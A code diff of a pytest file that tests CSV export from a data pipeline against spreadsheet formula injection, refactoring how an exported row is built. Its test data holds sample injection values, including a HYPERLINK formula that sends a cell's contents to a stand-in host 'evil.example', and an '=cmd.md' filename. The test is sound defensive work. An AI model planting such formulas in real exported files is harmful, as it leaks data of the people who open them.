@@ -5,8 +5,10 @@ import io
 
 import pytest
 
+from pipeline_core.domain.rows.exported import ExportedDocument, ExportedFact
 from pipeline_core.terminal.exporting import FORMATS
 from pipeline_core.terminal.spreadsheet_cells import harmless
+from tests.support.rows import row_of
 
 FORMULAS = [
     "=HYPERLINK(\"http://evil.example/?\"&A1)",
@@ -76,11 +78,10 @@ def test_every_text_of_an_export() -> None:
         ("question_id", "chunk_id", "question", "answer", "statement", "quote", "match", "generator", "added_by"),
         "=1+1",
     )
-    exported: dict[str, object] = {
-        "document_id": "7",
-        "filename": "=cmd.md",
-        "facts": [{**fact, "page": 1, "char_from": 0, "char_to": 4, "confidence": 0.9, "evidence": []}],
-    }
+    of_place = {"page": 1, "char_from": 0, "char_to": 4, "confidence": 0.9, "evidence": []}
+    exported = row_of(
+        ExportedDocument, document_id="7", filename="=cmd.md", facts=[row_of(ExportedFact, **fact, **of_place)]
+    )
     text = b"".join(FORMATS["csv"](exported)).decode()
     _, row = csv.reader(io.StringIO(text, newline=""))
     assert row[1] == "'=cmd.md"
